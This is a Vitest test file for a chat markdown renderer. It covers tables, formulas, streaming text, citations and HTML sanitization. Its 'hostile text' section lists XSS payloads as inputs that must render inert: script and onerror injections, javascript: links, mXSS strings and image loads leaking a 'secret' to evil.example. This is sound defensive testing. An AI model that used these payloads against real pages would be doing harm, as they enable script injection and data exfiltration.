// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { withMarks } from '../../src/markdown/citations';
import { loadable } from '../../src/markdown/images';
import { mend } from '../../src/markdown/mend';
import { MarkdownView, type Shown } from '../../src/markdown/view';
import type { Annotation } from '../../src/wire/protocol';

function view(allowedDomains: string[] | null = null) {
  const element = document.createElement('div');
  const shown = new MarkdownView(element, {
    images: { apiUrl: '/chatkit', allowedDomains },
    texts: { copy: 'Copy', blockedImage: 'Not loaded' },
    cite: (number) => {
      const chip = document.createElement('b');
      chip.textContent = `[${number}]`;
      return chip;
    },
  });
  return { element, show: (what: Shown | string) => shown.show(typeof what === 'string' ? { text: what } : what) };
}

function html(text: string, domains: string[] | null = null): string {
  const { element, show } = view(domains);
  show(text);
  return element.innerHTML;
}

describe('what is cited behind its own name', () => {
  function shown(text: string, kind = 'entity'): string {
    const element = document.createElement('div');
    const cite = () => {
      const chip = document.createElement('button');
      chip.className = `cite cite-${kind}`;
      chip.textContent = 'Clocktower';
      return chip;
    };
    const how = { images: { apiUrl: '/chatkit', allowedDomains: null }, cite };
    const texts = { copy: 'Copy', blockedImage: 'Not loaded' };
    const source = { type: 'entity', id: 'clocktower', title: 'Clocktower' } as const;
    const place = text.indexOf('|');
    const annotations: Annotation[] = [{ type: 'annotation', source, index: place }];
    new MarkdownView(element, { ...how, texts }).show({ text: text.replace('|', ''), annotations });
    return element.querySelector('p')!.textContent!;
  }

  test('takes the place of the name', () => {
    expect(shown('At Clocktower| change.')).toBe('At Clocktower change.');
    expect(shown('At **Clocktower**| change.')).toBe('At Clocktower change.');
  });

  test('and of nothing else', () => {
    expect(shown('At the tower| change.')).toBe('At the towerClocktower change.');
    expect(shown('**At Clocktower**| change.')).toBe('At ClocktowerClocktower change.');
    expect(shown('At Clocktower| change.', 'url')).toBe('At ClocktowerClocktower change.');
  });
});

describe('Markdown', () => {
  test('is GFM: tables, task lists, strikethrough, bare links', () => {
    const { element, show } = view();
    show('| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n~~no~~ https://example.com');
    expect(element.querySelectorAll('td')).toHaveLength(2);
    expect(element.querySelector('input')).toMatchObject({ type: 'checkbox', disabled: true, checked: true });
    expect(element.querySelector('del')?.textContent).toBe('no');
    expect(element.querySelector('a')?.href).toBe('https://example.com/');
  });

  test('code has its language and a button to copy', () => {
    const { element, show } = view();
    show('```python\nprint("<b>")\n```');
    expect(element.querySelector('pre')).toMatchObject({ textContent: 'print("<b>")' });
    expect(element.querySelector('.code-bar span')?.textContent).toBe('python');
    expect(element.querySelector('.code-copy')?.getAttribute('aria-label')).toBe('Copy');
  });

  test.each([
    ['$x^2$', 'x^2', 'false'],
    ['so $$E=mc^2$$ it is', 'E=mc^2', 'true'],
    ['$$\n\\frac{a}{b}\n$$', '\\frac{a}{b}', 'true'],
    ['\\(a_1\\)', 'a_1', 'false'],
    ['\\[a * b * c\\]', 'a * b * c', 'true'],
  ])('%s is a formula', (text, tex, display) => {
    const { element, show } = view();
    show(text);
    expect(element.querySelector<HTMLElement>('.tex')?.dataset).toMatchObject({ tex, display });
  });

  test.each(['It costs $5 and $10.', 'a $ b $ c', '`$x$`', '```\n$x$\n```'])('%s is none', (text) => {
    expect(html(text)).not.toContain('class="tex');
  });
});

describe('growing text', () => {
  const TEXT =
    'Some **bold words** and `code`.\n\n- one\n- two [link](https://example.com/a)\n\n' +
    '```js\nlet a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nThe $x$ end.';

  test('comes to the same as the whole', () => {
    const { element, show } = view();
    for (let to = 1; to <= TEXT.length; to++) show({ text: TEXT.slice(0, to), grows: true });
    show({ text: TEXT });
    expect(element.innerHTML.replaceAll(' data-finished=""', '')).toBe(html(TEXT).replaceAll(' data-finished=""', ''));
  });

  test('shows no half-written signs', () => {
    const { element, show } = view();
    for (let to = 1; to <= TEXT.length; to++) {
      show({ text: TEXT.slice(0, to), grows: true });
      const visible = element.cloneNode(true) as HTMLElement;
      visible.querySelectorAll('pre, .code-bar').forEach((each) => each.remove());
      expect(visible.textContent, TEXT.slice(0, to)).not.toMatch(/\*\*|\]\(|https:|\|/);
    }
  });

  test('keeps the elements that do not change', () => {
    const { element, show } = view();
    show({ text: 'First.\n\nSecond', grows: true });
    const [first, second] = element.querySelectorAll('p');
    show({ text: 'First.\n\nSecond grows', grows: true });
    expect(element.querySelectorAll('p')[0]).toBe(first);
    expect(element.querySelectorAll('p')[1]).toBe(second);
    expect(second?.textContent).toBe('Second grows');
  });

  test.each([
    ['a **b', 'a **b**'],
    ['a `b', 'a `b`'],
    ['see [the docs](https://exa', 'see the docs'],
    ['look ![alt](https://e', 'look '],
    ['| a | b |', ''],
    ['a <det', 'a '],
    ['1 * 2', '1 * 2'],
  ])('%s is mended to %s', (given, wanted) => {
    expect(mend(given)).toBe(wanted);
  });
});

describe('sources', () => {
  const at = (index: number | null): Annotation => ({
    type: 'annotation',
    index,
    source: { type: 'file', title: 'A', filename: 'a' },
  });

  test('stand where they belong, in characters, and else at the end', () => {
    const { element, show } = view();
    show({ text: '✨ One. Two.', annotations: [at(6), at(null)] });
    expect(element.textContent?.trim()).toBe('✨ One.[0] Two.[1]');
  });

  test('inside code they stand behind it', () => {
    const { element, show } = view();
    show({ text: 'Run `npm ci` now', annotations: [at(7)] });
    expect(element.querySelector('code')?.textContent).toBe('npm ci');
    expect(element.textContent?.trim()).toBe('Run npm ci[0] now');
  });

  test('marks in the text itself are none', () => {
    expect(withMarks('a\uE2000\uE201b', [])).toBe('a\uFFFD0\uFFFDb');
  });
});

describe('hostile text', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '<style>* { display: none }</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<p class="send" id="x">x</p>',
    '<form action="https://evil.example"><input name=a><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="https://e.example" target="_self" onclick="alert(1)">x</a>',
    '![x](https://evil.example/?secret)',
    '<img src="https://evil.example/?secret">',
    '<video src="https://evil.example"></video><audio src="https://evil.example"></audio>',
    '<link rel=stylesheet href="https://evil.example">',
    '<input type="image" src="https://evil.example">',
    '<table background="https://evil.example"><tr><td>x</td></tr></table>',
    '$\\href{javascript:alert(1)}{x}$',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '<cite data-cite="99">x</cite><ock-composer></ock-composer>',
  ])('%s does nothing', (text) => {
    const { element, show } = view();
    show(text);
    const all = [...element.querySelectorAll('*')];
    const names = all.map(({ localName }) => localName);
    const forbidden = /^(script|style|iframe|object|embed|form|meta|base|link|svg|math|video|audio|ock-(?!icon).*)$/;
    expect(names.filter((name) => forbidden.test(name))).toEqual([]);
    for (const each of all) {
      expect([...each.attributes].filter(({ name }) => /^on|^style$|^id$|^background$/.test(name))).toEqual([]);
      expect(each.getAttribute('href') ?? '').not.toMatch(/^\s*(javascript|data|vbscript):/i);
      expect(new URL(each.getAttribute('src') ?? '/', location.href).origin).toBe(location.origin);
      if (each.localName === 'a') expect(each.getAttribute('target') ?? '_blank').toBe('_blank');
      if (each.localName === 'input') expect(each.getAttribute('type')).toBe('checkbox');
    }
  });

  test('deep links and addresses are kept', () => {
    expect(html('[x](chatkit-link://open?id=1)')).toContain('chatkit-link://open?id=1');
    expect(html('[x](mailto:a@example.com)')).toContain('mailto:a@example.com');
  });

  test('images are loaded from the host and from where the thread allows', () => {
    expect(html('![a](https://img.example.com/a.png)', ['example.com'])).toContain('<img');
    expect(html('![a](https://example.com.evil.example/a.png)', ['example.com'])).not.toContain('<img');
    expect(html('![a](/files/a.png)')).toContain('<img');
    expect(html('![a](data:image/png;base64,AAAA)')).toContain('<img');
    expect(html('![a](data:image/svg+xml;base64,AAAA)')).not.toContain('<img');
    expect(loadable('//evil.example/x', { apiUrl: '/chatkit', allowedDomains: null })).toBeNull();
  });
});
